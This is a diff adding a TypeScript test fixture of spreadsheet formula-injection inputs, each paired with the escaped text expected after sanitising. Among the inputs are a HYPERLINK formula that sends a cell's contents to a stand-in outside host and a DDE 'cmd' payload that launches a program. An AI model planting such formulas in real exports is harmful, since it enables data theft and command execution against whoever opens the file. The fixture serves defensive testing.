@@ -1,0 +1,27 @@
+/** Texts of a record that try to be formulas, each with what a spreadsheet is to show. */
+export const plantedTexts: readonly (readonly [planted: string, shown: string])[] = [
+  ['=1+1', "'=1+1"],
+  ['+1+1', "'+1+1"],
+  ['-1+1', "'-1+1"],
+  ['@SUM(1,1)', "'@SUM(1,1)"],
+  ['\t=1+1', "'\t'=1+1"],
+  ['\r=1+1', "'\n'=1+1"],
+  ['\n=1+1', "'\n'=1+1"],
+  [' =1+1', "' =1+1"],
+  ['＝1+1', "'＝1+1"],
+  ['＋1+1', "'＋1+1"],
+  ['－1+1', "'－1+1"],
+  ['＠SUM(1,1)', "'＠SUM(1,1)"],
+  ['one;=1+1', "one;'=1+1"],
+  ['one\t=1+1', "one\t'=1+1"],
+  ['one\n=1+1', "one\n'=1+1"],
+  ['one;two; +1+1', "one;two; '+1+1"],
+  ['"=1+1', '"=1+1'],
+  ['one",=1+1', 'one",=1+1'],
+  [
+    '=HYPERLINK("https://elsewhere.example/?"&A1,"see")',
+    `'=HYPERLINK("https://elsewhere.example/?"&A1,"see")`,
+  ],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['<b>&amp;', '<b>&amp;'],
+]
